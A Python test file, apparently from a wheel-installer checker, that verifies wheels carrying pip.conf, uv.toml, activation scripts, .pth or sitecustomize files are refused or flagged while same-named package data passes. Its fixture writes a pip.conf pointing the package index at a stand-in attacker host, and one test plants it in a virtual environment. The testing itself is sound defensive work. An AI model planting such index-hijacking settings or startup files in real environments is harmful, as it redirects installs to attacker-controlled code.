"""Settings of installers, and other files that decide what an environment is."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest
from hostile.archives import rebuilt
from hostile.conftest import Site

from wheelfit.checking.findings import Severity
from wheelfit.checking.tool_profiles import CheckOptions
from wheelfit.checking.wheels.wheel import check_wheel
from wheelfit.testing.wheels import build_wheel

IN_PREFIX = {
    "pip.conf": "settings of pip",
    "PIP.INI": "settings of pip",
    "uv.toml": "settings of uv",
    "wheelfit.toml": "settings of wheelfit",
    "pdm.toml": "settings of pdm",
    "poetry.toml": "settings of poetry",
    ".pypirc": "settings of twine",
    ".condarc": "settings of conda",
    "pyvenv.cfg": "configures the Python interpreter",
    "bin/activate.fish": "activates the environment",
    "bin/Activate.ps1": "activates the environment",
    "bin/activate.xsh": "activates the environment",
    "etc/conda/activate.d/demo.sh": "conda activates",
    "etc/conda/deactivate.d/demo.fish": "conda activates",
    "etc/Conda/activate.d/more/demo.sh": "conda activates",
    "etc/conda/env_vars.d/demo.json": "conda activates",
    "conda-meta/state": "conda activates",
    "bin/activate_this.py": "activates the environment",
    "bin/pybuilddir.txt": "configures the Python interpreter",
    "bin/python3.99": "the Python interpreter",
}
IN_LIBRARY = [
    "purelib/demo.pth",
    "platlib/sitecustomize/__init__.py",
    "data/lib/python3.13/site-packages/demo.start",
    "data/lib/python3.13/usercustomize.py",
    "data/lib64/python3.13t/json/__init__.py",
    "data/Lib/site-packages/Demo.PTH",
]
HARMLESS = [
    "demo/pip.conf",
    "demo-2.data/data/share/demo/pip.conf",
    "demo-2.data/data/etc/uv.toml",
    "demo-2.data/data/share/man/man1/demo.1",
    "demo-2.data/data/etc/conda/demo.yaml",
    "demo-2.data/data/share/etc/conda/activate.d/demo.sh",
    "demo-2.data/data/pyproject.toml",
    "demo-2.data/data/lib/python3.13/site-packages/demo/demo.pth",
    "demo-2.data/purelib/demo/sitecustomize.py",
    "demo-2.data/scripts/activate-demo",
    "demo-2.data/scripts/pip.conf",
    "uv.toml",
    "pip.conf",
]


def wheel_with(site: Site, member: str) -> Path:
    """Make a wheel with one more file, under a name of its own, so that no cache has it."""
    folder = site.wheels / hashlib.sha256(member.encode()).hexdigest()
    folder.mkdir(exist_ok=True)
    wheel = build_wheel(folder, "demo", "2")
    content = b"[global]\nindex-url = https://attacker.example/simple\n"
    wheel.write_bytes(rebuilt(wheel, {member: content}))
    return wheel


@pytest.mark.parametrize("options", [(), ("--replace-files",)], ids=["", "replacing"])
def test_no_wheel_brings_them(site: Site, options: tuple[str, ...]) -> None:
    """A file that names an index, or what Python is, is refused in every spelling."""
    for path in ("bin/activate.fish", "bin/Activate.ps1"):
        (site.venv / path).unlink(missing_ok=True)  # else it is in the way already
    for path, reason in IN_PREFIX.items():
        wheel = wheel_with(site, f"demo-2.data/data/{path}")
        said = site.refused(wheel, *options, code=4)
        assert said.error["code"] == "invalid-wheel"
        assert reason in said.error["message"], path
        assert f"{path} " in said.error["message"]


def found_by_check(wheel: Path) -> dict[str, Severity]:
    """Return what `check` finds in a wheel that installing would refuse."""
    findings, _ = check_wheel(wheel, wheel.name, where=wheel.name, options=CheckOptions(full=True))
    assert {finding.code for finding in findings} <= {"reserved-file"}
    return {finding.message: finding.severity for finding in findings}


def test_check_finds_them(site: Site) -> None:
    """What installing refuses is an error before it is published, and nothing else is."""
    for path, reason in IN_PREFIX.items():
        found = found_by_check(wheel_with(site, f"demo-2.data/data/{path}"))
        assert [reason in text for text in found] == [True], path
        assert set(found.values()) == {Severity.ERROR}
    for path in IN_LIBRARY:
        assert set(found_by_check(wheel_with(site, f"demo-2.data/{path}")).values()) == {
            Severity.ERROR
        }, path
    for member in HARMLESS:
        found = found_by_check(wheel_with(site, member))
        # At the root of a wheel they are in the way of --target alone.
        is_root = "/" not in member
        assert set(found.values()) == ({Severity.WARNING} if is_root else set()), member


def test_commands_that_activate(site: Site) -> None:
    """A command is a file among the scripts too, and is refused and found as one."""
    folder = site.wheels / "commands"
    folder.mkdir()
    commands = {"console_scripts": {"activate": "demo:main"}}
    wheel = build_wheel(folder, "demo", "2", entry_points=commands)
    assert "activates the environment" in site.refused(wheel, code=4).error["message"]
    assert set(found_by_check(wheel).values()) == {Severity.ERROR}


def test_into_a_target_from_the_root(site: Site) -> None:
    """The root of a target is its prefix: a wheel needs no ``.data`` folder to reach it."""
    site.flat = True
    for member in ("pip.conf", "uv.toml", "demo-2.data/data/pip.conf", "pyvenv.cfg"):
        said = site.refused(wheel_with(site, member), code=4)
        assert "may not be written" in said.error["message"]


def test_into_a_prefix(site: Site) -> None:
    """A prefix that the user names is a prefix too."""
    prefix = site.folder / "prefix"
    wheel = wheel_with(site, "demo-2.data/data/pip.conf")
    result = site.bare("install", "--no-index", "--prefix", prefix, wheel, "--json")
    assert result.code == 4
    assert "settings of pip" in result.error["message"]


def test_into_the_standard_library_below_a_root(site: Site) -> None:
    """What is laid out below a root, as for an image, has a standard library as well."""
    base = Path(sys.base_prefix, "bin", "python3")
    library = Path(sysconfig.get_path("stdlib", vars={"installed_base": sys.base_prefix}))
    module = library.relative_to(sys.base_prefix) / "sitecustomize.py"
    wheel = wheel_with(site, f"demo-2.data/data/{module}")
    root = site.folder / "root"
    options = ("--no-index", "--python", base, "--root", root, wheel, "--json")
    result = site.bare("install", *options)
    assert (result.code, root.exists()) == (4, False)
    assert "belongs to the standard library" in result.error["message"]


def test_others_are_not_meant(site: Site) -> None:
    """The same names elsewhere are data of the package."""
    for member in HARMLESS:
        site.run("install", wheel_with(site, member), "--force-reinstall")


def test_pip_goes_on_asking_whom_it_did(site: Site) -> None:
    """What the attack is for: pip of the environment reads ``pip.conf`` of its prefix."""
    (site.venv / "pip.conf").write_text("[global]\nindex-url = https://attacker.example/simple\n")
    completed = subprocess.run(
        [sys.executable, "-m", "pip", "--python", site.venv, "config", "list"],
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
        env={key: value for key, value in os.environ.items() if not key.startswith("PIP_")},
    )
    if completed.returncode:
        pytest.skip(f"this pip cannot be asked: {completed.stderr.strip()[-80:]}")
    assert "attacker.example" in completed.stdout
    (site.venv / "pip.conf").unlink()
    site.refused(wheel_with(site, "demo-2.data/data/pip.conf"), code=4)
    assert not (site.venv / "pip.conf").exists()
